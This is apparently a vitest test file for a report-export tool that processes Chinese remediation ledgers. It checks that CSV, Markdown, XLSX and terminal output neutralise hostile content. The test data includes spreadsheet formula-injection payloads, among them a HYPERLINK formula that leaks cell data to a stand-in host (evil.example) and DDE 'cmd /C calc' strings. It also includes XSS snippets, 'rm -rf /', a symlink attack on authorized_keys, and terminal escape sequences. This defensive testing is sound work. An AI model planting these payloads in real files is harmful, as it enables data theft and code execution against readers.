// Reports hold departments' own text: no format may let that text attack its reader.
import { mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  csvCell,
  emitSheets,
  mdCell,
  sheetName,
  xlsxBuffer,
  type Sheet,
} from '../../client/export.ts';
import { writeNewFile } from '../../client/files.ts';
import { terminalSafe } from '../../client/output.ts';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看整改材料")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const ledger = (measures: string[], title = '整改台账 — 和县 2026'): Sheet => ({
  title,
  columns: [{ header: '序号' }, { header: '措施' }, { header: '责任单位' }],
  rows: measures.map((m, i) => [i + 1, m, '县市场监督管理局']),
});

const tmp = () => mkdtempSync(join(tmpdir(), 'exports-'));

describe('CSV exports', () => {
  it('neutralise every cell a spreadsheet would take for a formula, and only those', () => {
    for (const a of ATTACKS) expect(csvCell(a)).toBe(`'${a}`);
    expect(csvCell('推行电子营业执照')).toBe('推行电子营业执照');
    expect(csvCell('2026-10-08 18:00')).toBe('2026-10-08 18:00');
    expect(csvCell(-3)).toBe(-3);
    expect(csvCell(null)).toBe('');
  });

  it('write a ledger row with a formula-looking measure as text in the file', async () => {
    const file = join(tmp(), 'ledger.csv');
    await emitSheets([ledger(ATTACKS)], 'csv', file);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF序号,措施,责任单位')).toBe(true);
    const cells = (parseCsv(text, { bom: true }) as string[][]).slice(1).map((r) => r[1]);
    expect(cells).toEqual(ATTACKS.map((a) => `'${a}`));
    for (const line of text.split('\n').slice(1)) expect(line).not.toMatch(/^\d+,[=+\-@]/);
  });
});

describe('Markdown exports', () => {
  it('escape HTML, Markdown, pipes and line breaks so that a cell stays one plain cell', () => {
    expect(mdCell('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(mdCell('a | b')).toBe('a \\| b');
    expect(mdCell('`rm -rf /`')).toBe('\\`rm -rf /\\`');
    expect(mdCell('[点我](javascript:alert(1))')).toBe('\\[点我\\](javascript:alert(1))');
    expect(mdCell('第一行\r\n第二行\n第三行')).toBe('第一行<br>第二行<br>第三行');
    expect(mdCell('**粗体** _斜体_')).toBe('\\*\\*粗体\\*\\* \\_斜体\\_');
  });

  it('render a ledger whose text holds HTML without any tag of it', async () => {
    const file = join(tmp(), 'ledger.md');
    await emitSheets(
      [ledger(['<script>alert(1)</script>', 'a|b\nc'], '台账 <b>x</b>')],
      'md',
      file,
    );
    const text = readFileSync(file, 'utf8');
    expect(text).not.toMatch(/<script|<b>/);
    expect(text).toMatch(/^## 台账 &lt;b&gt;x&lt;\/b&gt;$/m);
    expect(text).toMatch(/^\| 2 \| a\\\|b<br>c \| 县市场监督管理局 \|$/m);
  });
});

describe('workbook exports', () => {
  it('clean a sheet name of / ? * [ ] : \\ and cut it to 31 characters', () => {
    expect(sheetName('整改台账 — 和县/2026?*[]:\\')).toBe('整改台账 — 和县 2026');
    expect(Array.from(sheetName('整'.repeat(40)))).toHaveLength(31);
    expect(sheetName("'quoted'")).toBe('quoted');
    expect(sheetName('///')).toBe('Sheet');
    expect(sheetName('台账', new Set(['台账']))).toBe('台账-2');
  });

  it('write a campaign name full of forbidden characters, and formulas as text cells', async () => {
    const name = '营商环境/评价?*[2026]:\\考核整改台账（和县）超过三十一个字符的名称';
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      (await xlsxBuffer([ledger(ATTACKS, name), ledger(['x'], name)])) as unknown as ArrayBuffer,
    );
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      sheetName(name),
      `${Array.from(sheetName(name)).slice(0, 29).join('').trim()}-2`,
    ]);
    const ws = wb.worksheets[0]!;
    ATTACKS.forEach((a, i) => {
      const cell = ws.getRow(i + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML keeps no bare carriage return: it reads back as a line feed.
      expect(cell.value).toBe(a.replace(/\r/g, '\n'));
      expect(cell.formula).toBeUndefined();
    });
  });
});

describe('--out', () => {
  it('writes a new file, refuses to replace one without --force, replaces it with --force', async () => {
    const file = join(tmp(), 'ledger.csv');
    await writeNewFile(file, 'one');
    await expect(writeNewFile(file, 'two')).rejects.toThrow(
      /ledger\.csv already exists; add --force to overwrite it/,
    );
    expect(readFileSync(file, 'utf8')).toBe('one');
    await writeNewFile(file, 'three', { force: true });
    expect(readFileSync(file, 'utf8')).toBe('three');
  });

  it('never writes through a symbolic link, not even with --force', async () => {
    const dir = tmp();
    const target = join(dir, 'authorized_keys');
    writeFileSync(target, 'ssh-ed25519 AAAA… bureau');
    const link = join(dir, 'ledger.csv');
    symlinkSync(target, link);
    for (const force of [false, true])
      await expect(writeNewFile(link, 'pwned', { force })).rejects.toThrow(/is a symbolic link/);
    const dangling = join(dir, 'new.csv');
    symlinkSync(join(dir, 'nowhere', 'x'), dangling);
    await expect(writeNewFile(dangling, 'pwned')).rejects.toThrow(/is a symbolic link/);
    expect(readFileSync(target, 'utf8')).toBe('ssh-ed25519 AAAA… bureau');
    await expect(emitSheets([ledger(['x'])], 'xlsx', link, { force: true })).rejects.toThrow(
      /symbolic link/,
    );
  });
});

describe('terminal tables', () => {
  it('show control characters from departments as U+FFFD instead of obeying them', () => {
    expect(terminalSafe('整改\u001b[2J\u001b]0;pwned\u0007完成\n下一行\t列')).toBe(
      '整改\uFFFD[2J\uFFFD]0;pwned\uFFFD完成\n下一行\t列',
    );
  });
});
